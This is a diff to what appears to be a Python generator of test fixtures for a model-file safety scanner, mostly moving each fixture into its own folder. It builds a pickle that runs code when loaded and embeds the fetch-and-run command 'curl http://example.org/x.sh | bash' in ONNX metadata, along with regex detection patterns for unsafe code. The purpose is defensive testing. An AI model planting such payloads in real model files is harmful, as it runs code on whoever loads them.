@@ -18,6 +18,10 @@ class Case:
     words: str
     runs: bool = False
 
+    def within(self, folder: Path) -> Path:
+        """Where it lies: in a folder of its own, under a name that tells nothing."""
+        return at(folder, self.file)
+
     @property
     def suffix(self) -> str:
         """Of its name."""
@@ -33,15 +37,10 @@ CODE = r"posix|os\.system|os system|unsafe|danger"
 CUT = "truncat|corrupt|incomplete|central directory|not a zip|exceed|beyond|too short|out.of.bound"
 DIGEST = "sha.?256 is|digest|checksum|mismatch"
 CONFIG = "hidden_size|config.json says|mismatch"
-UNUSED = "unused|dead|does not affect|useless|not used|depends on"
-UNDEFINED = "undefined|not exist|invalid|not output|not defined|never"
+UNUSED = "unused|dead.graph|GRF002|does not affect|useless|not used"
+UNDEFINED = "undefined|not exist|invalid|not output|not defined|nothing defines|never"
 CASES = (
-    Case(
-        "a pickle that calls `os.system`",
-        "code.pt",
-        r"posix|os\.system|os system|unsafe|danger",
-        True,
-    ),
+    Case("a pickle that calls `os.system`", "code.pt", CODE, runs=True),
     Case("a Keras Lambda layer", "lambda.keras", "lambda"),
     Case("a NaN in a weight", "nan.pt", r"\bnan|finite"),
     Case("a NaN in a weight", "nan.safetensors", r"\bnan|finite"),
@@ -84,6 +83,15 @@ CASES = (
 )
 
 
+def at(folder: Path, name: str) -> Path:
+    """`nan.pt` lies in `nan_pt/model.pt`; a path with a folder is itself."""
+    path = folder / name
+    if "/" not in name:
+        path = folder / name.replace(".", "_") / f"model{path.suffix}"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    return path
+
+
 def write(folder: Path) -> None:
     """All files, by torch, safetensors and onnx."""
     import torch
@@ -92,17 +100,17 @@ def write(folder: Path) -> None:
     state = _trained()
     _save(folder, "healthy", state)
     _save(folder, "nan", {**state, "fc1.weight": _with_nan(state["fc1.weight"])})
-    torch.save({**state, "extra": _Call(folder / "RAN")}, folder / "code.pt")
+    torch.save({**state, "extra": _Call(folder / "RAN")}, at(folder, "code.pt"))
     for suffix in (".pt", ".safetensors"):
-        content = (folder / f"healthy{suffix}").read_bytes()
-        (folder / f"cut{suffix}").write_bytes(content[: len(content) // 2])
+        content = at(folder, f"healthy{suffix}").read_bytes()
+        at(folder, f"cut{suffix}").write_bytes(content[: len(content) // 2])
     pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 41736\n"
-    (folder / "pointer.safetensors").write_text(pointer)
+    at(folder, "pointer.safetensors").write_text(pointer)
     dead = {name: values.clone() for name, values in state.items()}
     dead["fc1.weight"][::3], dead["fc1.bias"][::3], dead["fc2.weight"][:, ::3] = 0, 0, 0
-    torch.save(dead, folder / "dead.pt")
-    torch.save(_network().state_dict(), folder / "untrained.pt")
-    torch.save({f"module.{k}": v for k, v in state.items()}, folder / "wrapped.pt")
+    torch.save(dead, at(folder, "dead.pt"))
+    torch.save(_network().state_dict(), at(folder, "untrained.pt"))
+    torch.save({f"module.{k}": v for k, v in state.items()}, at(folder, "wrapped.pt"))
     _beside(folder)
     _graphs(folder)
 
@@ -146,9 +154,9 @@ def _save(folder: Path, name: str, state) -> None:
     import torch
     from safetensors.torch import save_file
 
-    torch.save(state, folder / f"{name}.pt")
-    save_file(state, folder / f"{name}.safetensors", {"format": "pt"})
-    _graph(folder / f"{name}.onnx", state)
+    torch.save(state, at(folder, f"{name}.pt"))
+    save_file(state, at(folder, f"{name}.safetensors"), {"format": "pt"})
+    _graph(at(folder, f"{name}.onnx"), state)
 
 
 def _graph(path: Path, state, *, reads: str = "x", extra: tuple = (), metadata: str = "") -> None:
@@ -178,15 +186,15 @@ def _graphs(folder: Path) -> None:
 
     state = _loaded(folder)
     unused = (helper.make_node("Exp", ["h0"], ["nobody"], "unused_node"),)
-    _graph(folder / "unused.onnx", state, extra=unused)
-    _graph(folder / "undefined.onnx", state, reads="nowhere")
-    _graph(folder / "script.onnx", state, metadata="curl http://example.org/x.sh | bash")
+    _graph(at(folder, "unused.onnx"), state, extra=unused)
+    _graph(at(folder, "undefined.onnx"), state, reads="nowhere")
+    _graph(at(folder, "script.onnx"), state, metadata="curl http://example.org/x.sh | bash")
 
 
 def _loaded(folder: Path):
     import torch
 
-    return torch.load(folder / "healthy.pt", weights_only=True)
+    return torch.load(at(folder, "healthy.pt"), weights_only=True)
 
 
 def _beside(folder: Path) -> None:
@@ -197,7 +205,7 @@ def _beside(folder: Path) -> None:
     from transformers import BertConfig, BertModel
 
     (folder / "flipped").mkdir()
-    content = bytearray((folder / "healthy.safetensors").read_bytes())
+    content = bytearray((at(folder, "healthy.safetensors")).read_bytes())
     digest = sha256(content).hexdigest()
     content[5000] ^= 1
     (folder / "flipped/healthy.safetensors").write_bytes(content)
@@ -214,7 +222,7 @@ def _beside(folder: Path) -> None:
     }
     for name, layers in (("healthy", []), ("lambda", [layer])):
         config = {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}
-        with zipfile.ZipFile(folder / f"{name}.keras", "w") as archive:
+        with zipfile.ZipFile(at(folder, f"{name}.keras"), "w") as archive:
             archive.writestr("config.json", json.dumps(config))
             archive.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))
 
